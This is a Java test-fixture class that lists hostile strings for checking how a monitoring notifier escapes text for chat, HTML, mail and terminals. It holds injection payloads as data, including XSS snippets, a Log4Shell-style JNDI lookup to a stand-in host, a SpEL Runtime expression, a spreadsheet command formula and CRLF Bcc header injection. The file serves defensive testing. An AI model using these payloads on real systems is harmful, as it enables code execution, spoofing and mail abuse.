package io.monitoring.notify;

import java.util.List;
import java.util.stream.Stream;

import tools.jackson.databind.JsonNode;

/**
 * Texts that somebody may bring into a label to speak with the voice of the monitoring.
 */
public final class HostileTexts {

	/** Texts that mean something to Slack, Teams, HTML, mail or a terminal. */
	public static final List<String> ALL = List.of("<!channel> <!here> <@U012AB3CD>", "<https://evil.example|Runbook>",
			"@channel @here", "*bold* _italic_ ~gone~ `code`", "[Runbook](https://evil.example)",
			"![x](https://evil.example/x.png)", "{{DATE(2017-02-14T06:00:00Z, SHORT)}}", "<at>everyone</at>",
			"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
			"</td></table></body><h1>ok</h1>", "<!-- ", "&lt;b&gt; &#60;b&#62;", "x\r\nBcc: victim@example.com",
			"x\nBcc: victim@example.com\n\nbody", "x\u0000\u0007\u001b[2J", "\u202egnp.exe", "a\u200bb\u2066c\u2069",
			"line\u2028separator\u2029paragraph\u0085next", "\ud800 half", "\\\"}],\"status\":\"resolved\"",
			"${jndi:ldap://evil.example}", "#{T(java.lang.Runtime)}", "javascript:alert(1)",
			"%0d%0aBcc:%20victim@example.com", "=cmd|' /C calc'!A0", "x".repeat(100_000), "\ud83d\udd25".repeat(5000),
			"<".repeat(5000));

	private HostileTexts() {
	}

	/** All texts of a JSON value, names left out. */
	public static Stream<String> strings(JsonNode node) {
		return node.isString() ? Stream.of(node.asString()) : node.valueStream().flatMap(HostileTexts::strings);
	}

	/**
	 * Whether a text turns the direction of writing or holds something that is not seen.
	 */
	public static boolean isClean(String text) {
		return text.codePoints().allMatch((character) -> character == '\n' || switch (Character.getType(character)) {
			case Character.CONTROL, Character.FORMAT, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR,
					Character.SURROGATE ->
				false;
			default -> true;
		});
	}

}
